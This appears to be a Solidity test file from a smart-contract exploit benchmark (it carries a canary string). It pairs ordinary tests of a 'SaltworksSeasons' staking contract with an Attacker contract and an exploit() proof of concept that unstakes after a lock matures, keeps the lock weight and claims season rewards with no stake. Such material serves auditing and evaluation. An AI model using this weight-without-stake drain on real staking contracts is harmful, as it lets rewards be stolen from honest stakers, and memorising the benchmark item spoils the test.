// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./SaltworksSeasons.sol";

// assay-canary-16d84a56-9d4e-437f-b5a4-3fa4365ff3ba

interface Vm {
    function warp(uint256 time) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Token {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Raker {
    Token internal salt;
    SaltworksSeasons internal works;

    constructor(Token salt_, SaltworksSeasons works_) {
        salt = salt_;
        works = works_;
    }

    function stake(uint256 amount) public {
        salt.approve(address(works), amount);
        works.stake(amount);
    }

    function lock(uint256 time) public {
        works.extendLock(block.timestamp + time);
    }

    function unstake(uint256 amount) public {
        works.unstake(amount, address(this));
    }

    function claim() public {
        works.claim(address(this));
    }
}

contract Attacker is Raker {
    constructor(Token salt_, SaltworksSeasons works_) Raker(salt_, works_) {}

    function enter() external {
        stake(salt.balanceOf(address(this)));
        lock(works.MAX_LOCK());
    }

    function leave() external {
        (uint256 held, , , , ) = works.members(address(this));
        unstake(held);
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    Token public salt;
    Token public token;
    SaltworksSeasons private works;
    Raker private rosa;
    Raker private rolf;
    Attacker private mallory;
    uint256 private begin;

    // A season of ten weeks is planned seventeen weeks ahead.
    function setUp() public {
        salt = new Token();
        token = new Token();
        works = new SaltworksSeasons(IToken(address(salt)), IToken(address(token)));
        rosa = new Raker(salt, works);
        rolf = new Raker(salt, works);
        mallory = new Attacker(salt, works);
        salt.mint(address(rosa), 100e18);
        salt.mint(address(rolf), 100e18);
        salt.mint(address(mallory), 100e18);
        rosa.stake(100e18);

        begin = block.timestamp + 17 weeks;
        token.mint(address(this), 12096e18);
        token.approve(address(works), 12096e18);
        works.planSeason(6048e18, begin, 10 weeks);
    }

    function test_Regular() public {
        uint256 perWeek = 604.8e18;
        vm.warp(begin - 8 weeks);
        rolf.stake(50e18);
        rolf.lock(16 weeks);
        require(works.totalWeight() == 300e18 && works.totalStake() == 150e18, "four times fifty");
        (bool early, ) = address(rolf).call(abi.encodeCall(Raker.unstake, (1)));
        require(!early, "unstaked while locked");
        require(works.pendingOf(address(rolf)) == 0, "rewards before the season");

        vm.warp(begin + 3 weeks);
        require(_near(works.pendingOf(address(rolf)), perWeek * 2), "two thirds of three weeks");
        rosa.claim();
        require(_near(token.balanceOf(address(rosa)), perWeek), "one third of three weeks");

        // matured a week ago: the weight stays with a stake that stays
        vm.warp(begin + 9 weeks);
        require(_near(works.pendingOf(address(rolf)), perWeek * 6), "two thirds of nine weeks");
        rolf.unstake(50e18);
        rolf.claim();
        require(salt.balanceOf(address(rolf)) == 100e18, "stake returned");
        require(_near(token.balanceOf(address(rolf)), perWeek * 6), "rewards paid");
        require(works.totalStake() == 100e18, "rosa is left");

        // a stake that was never locked comes and goes with its weight
        rosa.unstake(40e18);
        (uint256 held, uint256 weight, , , ) = works.members(address(rosa));
        require(held == 60e18 && weight == 60e18, "weight follows an unlocked stake");
        vm.warp(begin + 10 weeks);
        works.planSeason(6048e18, block.timestamp, 10 weeks);
        require(works.rate() == 1e15, "next season");
    }

    function _near(uint256 a, uint256 b) private pure returns (bool) {
        return a <= b && b - a < 1e6;
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Seasons are the steward's, one after the other, and last.
    function test_RefusesSeasons() public {
        refuses(address(rosa), SaltworksSeasons.OnlySteward.selector);
        works.planSeason(1, begin, 1);
        uint256 end = begin + 10 weeks;
        vm.expectRevert(abi.encodeWithSelector(SaltworksSeasons.SeasonRunning.selector, end));
        works.planSeason(1, end, 1);
        vm.warp(end);
        vm.expectRevert(SaltworksSeasons.BadSeason.selector);
        works.planSeason(1, end - 1, 10);
        vm.expectRevert(SaltworksSeasons.BadSeason.selector);
        works.planSeason(1, end, 0);
    }

    /// Stakes and locks that are none, or too much.
    function test_RefusesStakes() public {
        refuses(address(rolf), SaltworksSeasons.BadAmount.selector);
        works.stake(0);
        rolf.stake(1e18);
        refuses(address(rolf), SaltworksSeasons.BadAmount.selector);
        works.unstake(0, address(rolf));
        refuses(address(rolf), SaltworksSeasons.BadAmount.selector);
        works.unstake(1e18 + 1, address(rolf));
        rolf.lock(1 weeks);
        refuses(address(rolf), SaltworksSeasons.BadLock.selector);
        works.extendLock(block.timestamp + 1 weeks);
        refuses(address(rolf), SaltworksSeasons.BadLock.selector);
        works.extendLock(block.timestamp + 16 weeks + 1);
    }

    /// Tokens that say no are believed.
    function test_RefusesFailedTransfers() public {
        salt.sleep(true);
        refuses(address(rolf), SaltworksSeasons.TransferFailed.selector);
        works.stake(1e18);
        refuses(address(rosa), SaltworksSeasons.TransferFailed.selector);
        works.unstake(1, address(rosa));
    }

    function exploit() public {
        mallory.enter();
        vm.warp(begin - 1 weeks);
        mallory.leave();
        vm.warp(begin + 10 weeks);
        mallory.claim();
    }

    function test_Exploit() public {
        exploit();
        require(salt.balanceOf(address(mallory)) == 100e18, "the whole stake was back before the season");
        require(token.balanceOf(address(mallory)) >= 4000e18, "no rewards without a stake");
        require(!weightHasStake(), "weight went with the stake");
    }

    // Who has nothing at stake has no weight, and draws no rewards.
    function weightHasStake() public view returns (bool) {
        (uint256 held, uint256 weight, , , ) = works.members(address(mallory));
        return held > 0 || weight == 0;
    }

    function target() public view returns (address) {
        return address(works);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
